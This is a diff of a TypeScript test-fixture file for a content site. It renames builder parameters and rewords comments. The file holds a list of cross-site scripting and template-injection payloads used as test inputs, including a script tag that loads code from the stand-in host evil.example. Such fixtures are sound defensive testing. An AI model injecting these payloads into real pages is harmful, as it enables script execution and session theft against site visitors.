@@ -1,7 +1,7 @@
 import type { Entry } from '../features/content/entry.ts'
 import { nothingRelated } from '../features/content/entry.ts'
 
-/** Ways in which markup is smuggled into pages: each would do something if it reached one as it is. */
+/** Markup of injection attacks: each line would run or load something if a page showed it unescaped. */
 export const hostileMarkup: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -50,7 +50,8 @@ export const hostileMarkup: readonly string[] = [
   '{{constructor.constructor("alert(1)")()}}',
 ]
 
-export function anEntry(given: Partial<Entry> = {}): Entry {
+/** A content entry; a test overrides only the fields it is about. */
+export function anEntry(overrides: Partial<Entry> = {}): Entry {
   return {
     kind: 'articles',
     id: 'an-article',
@@ -63,11 +64,12 @@ export function anEntry(given: Partial<Entry> = {}): Entry {
     minutes: 3,
     related: nothingRelated,
     body: 'Words.',
-    ...given,
+    ...overrides,
   }
 }
 
-export function aQuestion(given: Readonly<Record<string, unknown>> = {}): Record<string, unknown> {
+/** The form of a question to the site. */
+export function aQuestion(overrides: Readonly<Record<string, unknown>> = {}): Record<string, unknown> {
   return {
     name: 'Anna',
     email: 'anna@example.org',
@@ -75,6 +77,6 @@ export function aQuestion(given: Readonly<Record<string, unknown>> = {}): Record
     question: 'Which of these two days is better?\nThe 8th or the 9th?',
     consent: true,
     locale: 'en',
-    ...given,
+    ...overrides,
   }
 }
